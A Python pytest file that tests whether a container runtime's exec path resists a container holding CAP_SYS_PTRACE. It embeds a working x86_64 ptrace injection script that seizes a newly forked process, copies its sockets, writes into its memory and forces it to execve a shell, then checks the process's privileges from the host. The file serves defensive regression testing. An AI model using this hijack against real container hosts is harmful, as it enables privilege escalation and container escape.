"""Attacks on the default path (pyrun run with pyrun-oci in pyrun's process) and on pyrun-oci as an engine's
runtime, from angles the older attack tests do not take: here, a container that can ptrace (a local user's
links where root writes: test_oci_pid_file.py, test_state_permissions.py). Each checks the effect from the host.

A container given CAP_SYS_PTRACE (`--cap-add SYS_PTRACE`, as for strace or gdb) may attach to any process
in its PID namespace, whatever that process's dumpable flag says (ptrace(2): the capability overrides it).
An exec's process joins that namespace as soon as it is forked: if it is still a copy of the runtime then
(every capability of host root, outside the container's cgroup, no seccomp filter), the container makes it
execve a program of its own with all of that.
"""
import os

import pytest

from conftest import pyrun, running_record, wait_for
from test_runtime_attacks import _cgroups, _cmdline, _in_pidns_of, _status

# Seizes the next process to appear in the container's PID namespace and makes it execve /bin/sh -c CMD:
# ptrace(2)'s PTRACE_SEIZE and PTRACE_INTERRUPT, then the registers of an execve at a syscall instruction
# found in its own executable memory, and the strings written below its stack (/proc/PID/mem). Written to
# /out/seized once done; it then waits for the witness CMD starts (/out/witness).
HIJACK = r'''
import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, GETREGS, SETREGS, DETACH = 0x4206, 0x4207, 12, 13, 17
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                    "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
with open("/proc/sys/kernel/ns_last_pid") as f:
    last = int(f.read())
targets = [last + 1 + i for i in range(4)]
open("/out/armed", "w").close()
while True:
    hit = next((t for t in targets if libc.ptrace(SEIZE, t, None, None) == 0), None)
    if hit:
        break
libc.ptrace(INTERRUPT, hit, None, None)
os.waitpid(hit, 0x40000000)  # __WALL
# Its sockets (the sync socket among them) dup'ed into ours: the runtime sees no end of file at the execve,
# and does not kill it before the witness is started.
pidfd = libc.syscall(434, hit, 0)  # pidfd_open
held = [libc.syscall(438, pidfd, int(fd), 0) for fd in os.listdir(f"/proc/{hit}/fd")  # pidfd_getfd
        if os.readlink(f"/proc/{hit}/fd/{fd}").startswith("socket:")]
regs = Regs()
libc.ptrace(GETREGS, hit, None, ctypes.byref(regs))
mem = open(f"/proc/{hit}/mem", "r+b", buffering=0)
syscall = None
for line in open(f"/proc/{hit}/maps"):
    span, perms = line.split()[:2]
    if "x" in perms and syscall is None:
        lo, hi = (int(x, 16) for x in span.split("-"))
        try:
            mem.seek(lo)
            i = mem.read(min(hi - lo, 1 << 22)).find(b"\x0f\x05")
        except OSError:
            continue
        syscall = lo + i if i >= 0 else None
base = (regs.rsp - 0x10000) & ~0xF
ptrs, blob = [], b""
for s in (b"/bin/sh", b"-c", sys.argv[1].encode()):
    ptrs.append(base + len(blob))
    blob += s + b"\0"
argv = base + ((len(blob) + 15) & ~15)
mem.seek(base)
mem.write(blob)
mem.seek(argv)
mem.write(struct.pack("4Q", *ptrs, 0))
regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx, regs.rip = 59, 2 ** 64 - 1, ptrs[0], argv, 0, syscall
libc.ptrace(SETREGS, hit, None, ctypes.byref(regs))
libc.ptrace(DETACH, hit, None, None)
open("/out/seized", "w").write(str(hit))
for _ in range(200):
    if os.path.exists("/out/witness"):
        break
    time.sleep(0.05)
'''
# What the hijacked process runs: a witness that keeps its privileges, for the host to look at.
WITNESS = "sleep 298 </dev/null >/dev/null 2>&1 & echo $! > /out/witness"


def _witness(pid1: int) -> int | None:
    """The host pid of the witness, the `sleep 298` in PID 1's PID namespace."""
    return next((p for p in _in_pidns_of(pid1) if _cmdline(p) == b"sleep\x00298\x00"), None)


def _hijack_exec(pid1: int, out, do_exec) -> int:
    """Wait for the attacker to be ready, run DO_EXEC (an exec into its container), and return the host pid of
    the witness its hijacked process left: the exec's process was seized and made to run it."""
    wait_for(lambda: (out / "armed").exists(), what="the attacker to be ready")
    do_exec()
    wait_for(lambda: (out / "seized").exists(), what="the attacker to seize the exec's process")
    return wait_for(lambda: _witness(pid1), what="the witness the hijacked process starts")


def _attacker(out) -> list[str]:
    os.chmod(out, 0o777)
    (out / "hijack.py").write_text(HIJACK)
    return ["sh", "-c", f"python3 /out/hijack.py '{WITNESS}' > /out/log 2>&1; sleep 300"]


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the injection is written for x86_64's registers")
def test_a_container_that_may_ptrace_gains_nothing_from_pyrun_exec(each_runtime, debian, tmp_path, clean_host):
    out = tmp_path / "out"
    out.mkdir()
    name = f"ptracer-{each_runtime}"
    r = pyrun("run", "-d", "--name", name, "--network", "none", "--cap-add", "SYS_PTRACE", "-v", f"{out}:/out",
              debian, *_attacker(out))
    assert r.returncode == 0, r.stderr
    try:
        pid1 = wait_for(lambda: running_record(name), what="the container")["State"]["Pid"]
        witness = _hijack_exec(pid1, out, lambda: pyrun("exec", name, "true"))
        assert _status(witness) == _status(pid1), (out / "log").read_text()
        assert _cgroups(witness) == _cgroups(pid1)  # its devices cgroup too: no mknod'ed host disk opens
    finally:
        assert pyrun("rm", "-f", name).returncode == 0


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the injection is written for x86_64's registers")
def test_a_container_that_may_ptrace_gains_nothing_from_pyrun_oci_exec(debian, tmp_path):
    from ocitools import oci, running

    out = tmp_path / "out"
    out.mkdir()

    def edit(config):
        for caps in config["process"]["capabilities"].values():
            caps.append("CAP_SYS_PTRACE")
        config["root"]["readonly"] = True  # the rootfs is hard links to the fixture's
        config["mounts"].append({"destination": "/out", "type": "bind", "source": str(out),
                                 "options": ["rbind", "rw"]})
    with running(debian, str(tmp_path), "ptracer", _attacker(out), edit) as (_, pid1):
        witness = _hijack_exec(pid1, out, lambda: oci("exec", "ptracer", "true"))
        assert _status(witness) == _status(pid1), (out / "log").read_text()
        assert _cgroups(witness) == _cgroups(pid1)
